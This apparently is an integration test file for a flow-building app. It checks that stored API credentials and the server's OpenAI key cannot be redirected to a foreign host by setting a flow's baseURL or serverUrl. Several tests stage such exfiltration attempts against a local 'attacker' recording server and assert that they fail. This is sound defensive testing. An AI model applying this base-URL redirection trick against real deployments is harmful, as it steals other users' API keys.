// Finding 1 of issue 10: an editor pointed a flow at their own server and received the decrypted
// key of someone else's credential, or the server's OPENAI_API_KEY. Credentials are now bound to
// their hosts, the server key to OPENAI_BASE_URL's host, and base URLs / servers are never
// overridable per request. The private-address guard is left open here on purpose
// (OUTBOUND_ALLOW_PRIVATE=true, from tests/integration/setup.ts): the binding alone must hold.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { auth, call } from "../support/http";
import { exampleFlow } from "../../dev/flows";
import { fixtureKey, systemCaller } from "../../dev/callers";
import { createModelStub, type ModelStub } from "../../dev/model-stub/server";
import { createRecordingServer, type RecordingServer } from "../support/recording-server";
import * as prediction from "../../app/api/v1/prediction/[id]/route";
import * as chatflowRoute from "../../app/api/v1/chatflows/[id]/route";
import { resetEnvForTests } from "../../lib/env";
import { getDb } from "../../lib/db/client";
import { createChatflow } from "../../lib/services/chatflows";
import { createCredential } from "../../lib/services/credentials";
import type { Graph } from "@/common/schemas/graph";

const SERVER_KEY = "sk-server-secret-0123456789";
const VICTIM_KEY = "sk-victim-secret-9876543210";

let stub: ModelStub;
let attacker: RecordingServer;
let victimCredentialId: string;

beforeAll(async () => {
  [stub, attacker] = await Promise.all([createModelStub(), createRecordingServer()]);
  Object.assign(process.env, { OPENAI_API_KEY: SERVER_KEY, OPENAI_BASE_URL: stub.url, OPENAI_MODEL: "stub-model" });
  resetEnvForTests();
  // The victim's credential, bound to the real provider (no baseURL: api.openai.com).
  victimCredentialId = (
    await createCredential({ name: "Victim OpenAI", type: "openai", data: { apiKey: VICTIM_KEY } }, systemCaller)
  ).id;
});
afterAll(() => Promise.all([stub.close(), attacker.close()]));

/** The conversation example with its chat model's inputs changed, saved public. */
async function publicFlow(name: string, modelInputs: Record<string, unknown>): Promise<string> {
  const graph = exampleFlow("conversation.json").graph as Graph;
  const model = graph.nodes.find((n) => n.type === "chatOpenAICompatible")!;
  Object.assign(model.data.inputs, modelInputs);
  return (await createChatflow({ name, graph: graph as never, isPublic: true }, systemCaller)).id;
}

const anonymousPredict = (id: string, body: object) => call(prediction.POST, { method: "POST", params: { id }, body });

const authorizationsSeen = () => attacker.requests.map((r) => String(r.headers.authorization ?? ""));

describe("a credential goes only to its own host", () => {
  it("refuses a flow sending someone's credential to another base URL, and the server there gets nothing", async () => {
    const id = await publicFlow("exfiltrate credential", {
      credential: victimCredentialId,
      baseURL: `${attacker.origin}/v1`,
    });
    for (const streaming of [false, true]) {
      const res = await anonymousPredict(id, { question: "hi", streaming });
      expect(res.status).toBe(403);
      expect(res.json.error.code).toBe("forbidden");
      expect(res.json.error.message).toContain('credential "Victim OpenAI"');
      expect(res.json.error.message).toContain(attacker.host);
      expect(res.text).not.toContain(VICTIM_KEY);
    }
    expect(attacker.requests).toEqual([]);
  });

  it("sends a credential whose own base URL is the server, with its key", async () => {
    const own = await createCredential(
      { name: "Stub key", type: "openai", data: { apiKey: "sk-stub-cred", baseURL: stub.url } },
      systemCaller,
    );
    const id = await publicFlow("own credential", { credential: own.id });
    const res = await anonymousPredict(id, { question: "hello" });
    expect(res.status).toBe(200);
    expect(res.json.text).toBeTruthy();
  });
});

describe("request-header credentials go only to their allowed hosts", () => {
  it("refuses an OpenAPI chain sending a headers credential to a server it does not list", async () => {
    const headers = await createCredential(
      {
        name: "Shop API key",
        type: "httpHeaders",
        data: { allowedHosts: ["shop.example.com"], headers: { "X-Api-Key": "shop-secret" } },
      },
      systemCaller,
    );
    const graph = exampleFlow("openapi-chain-only.json").graph as Graph;
    Object.assign(graph.nodes.find((n) => n.type === "openApiChain")!.data.inputs, {
      headersCredential: headers.id,
      serverUrl: attacker.origin,
    });
    const id = (
      await createChatflow({ name: "exfiltrate headers", graph: graph as never, isPublic: true }, systemCaller)
    ).id;
    const res = await anonymousPredict(id, { question: "laptops?" });
    expect(res.status).toBe(403);
    expect(res.json.error.message).toContain('credential "Shop API key" may only be sent to shop.example.com');
    expect(res.json.error.message).toContain(attacker.host);
    expect(attacker.requests).toEqual([]);
  });

  it("does not store a headers credential without allowed hosts", async () => {
    await expect(
      createCredential(
        { name: "no hosts", type: "httpHeaders", data: { headers: { "X-Api-Key": "k" } } },
        systemCaller,
      ),
    ).rejects.toMatchObject({
      code: "validation_failed",
    });
  });
});

describe("the server's OPENAI_API_KEY goes only to OPENAI_BASE_URL", () => {
  it("never sends the server key to a base URL on another host", async () => {
    const id = await publicFlow("exfiltrate server key", { baseURL: `${attacker.origin}/v1` });
    const res = await anonymousPredict(id, { question: "hi" });
    // The foreign server was called without the server's key; it refuses, which is the flow's problem.
    expect(res.status).toBe(502);
    expect(res.json.error.code).toBe("upstream_error");
    expect(res.json.error.message).toContain(attacker.host);
    expect(res.json.error.message).toContain("server's OPENAI_API_KEY only goes to");
    expect(attacker.requests.length).toBeGreaterThan(0);
    for (const header of authorizationsSeen()) expect(header).not.toContain(SERVER_KEY);
    expect(res.text).not.toContain(SERVER_KEY);
  });

  it("still uses the server key on OPENAI_BASE_URL itself", async () => {
    const id = await publicFlow("server key at home", {});
    const res = await anonymousPredict(id, { question: "hello" });
    expect(res.status).toBe(200);
  });
});

describe("base URLs and servers are never overridable per request", () => {
  it("refuses to save an allow-list naming baseURL, serverUrl, specUrl or a credential (400 naming them)", async () => {
    const id = await publicFlow("allow-list", {});
    const key = await fixtureKey("editor", ["chatflows"]);
    const put = (overrideAllowList: string[]) =>
      call(chatflowRoute.PUT, {
        method: "PUT",
        params: { id },
        headers: auth.bearer(key),
        body: { overrideAllowList },
      });
    const res = await put(["temperature", "baseURL", "serverUrl", "specUrl", "credential"]);
    expect(res.status).toBe(400);
    for (const name of ["baseURL", "serverUrl", "specUrl", "credential"])
      expect(res.json.error.message).toContain(name);
    await expect((await getDb()).chatflow.findUnique({ where: { id } })).resolves.toMatchObject({
      overrideAllowList: [],
    });
    expect((await put(["temperature"])).status).toBe(200);
  });

  it("refuses overrideConfig.baseURL and serverUrl with 400 even when an old saved allow-list has them", async () => {
    const id = await publicFlow("old allow-list", {});
    // A chatflow saved before the rule: its allow-list is written straight to the database.
    await (await getDb()).chatflow.update({
      where: { id },
      data: { overrideAllowList: ["temperature", "baseURL", "serverUrl"] },
    });
    const before = attacker.requests.length;
    for (const overrideConfig of [{ baseURL: `${attacker.origin}/v1` }, { serverUrl: attacker.origin }]) {
      const res = await anonymousPredict(id, { question: "hi", overrideConfig });
      expect(res.status).toBe(400);
      expect(res.json.error.message).toContain(Object.keys(overrideConfig)[0]);
    }
    expect(attacker.requests.length).toBe(before);
    // The safe entry of the same list keeps working.
    expect((await anonymousPredict(id, { question: "hello", overrideConfig: { temperature: 0.2 } })).status).toBe(200);
  });
});
